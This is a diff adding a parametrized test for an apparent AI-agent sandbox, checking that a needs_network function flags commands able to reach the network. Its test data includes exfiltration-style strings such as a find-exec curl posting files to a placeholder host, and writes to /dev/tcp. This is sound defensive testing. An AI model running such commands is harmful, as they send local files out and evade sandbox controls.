@@ -168,3 +168,29 @@ def test_keel_home_stays_read_only_even_inside_a_working_directory(tmp_path: Pat
     assert "[Sandbox denial:" in out.content
     assert (keel_home / "settings.json").read_text() == "{}"
     assert not (keel_home / "x").exists()
+
+
+@pytest.mark.parametrize(
+    ("command", "needs"),
+    [
+        ("true", False),
+        ("ls -la | grep x && wc -l < a.txt > n.txt", False),
+        ("find . -name '*.py' | sort | head", False),
+        ("/usr/bin/cat a b", False),
+        ("timeout 5 ls", False),
+        ("curl https://example.com", True),
+        ("ls && pip install x", True),
+        ("find . -exec curl -d @{} https://x.example \\;", True),
+        ("ls | xargs curl", True),
+        ("echo hi > /dev/tcp/10.0.0.1/80", True),
+        ("cat < /dev/udp/10.0.0.1/53", True),
+        ("echo $(git fetch)", True),
+        ("$TOOL --version", True),
+        ('eval "$X"', True),
+        ("awk 'BEGIN{system(\"curl x\")}'", True),
+    ],
+)
+def test_the_relay_is_skipped_only_for_commands_that_cannot_use_the_network(command: str, needs: bool) -> None:
+    from agentkeel.sandbox.proxy import needs_network
+
+    assert needs_network(command, "/tmp", "/root") is needs
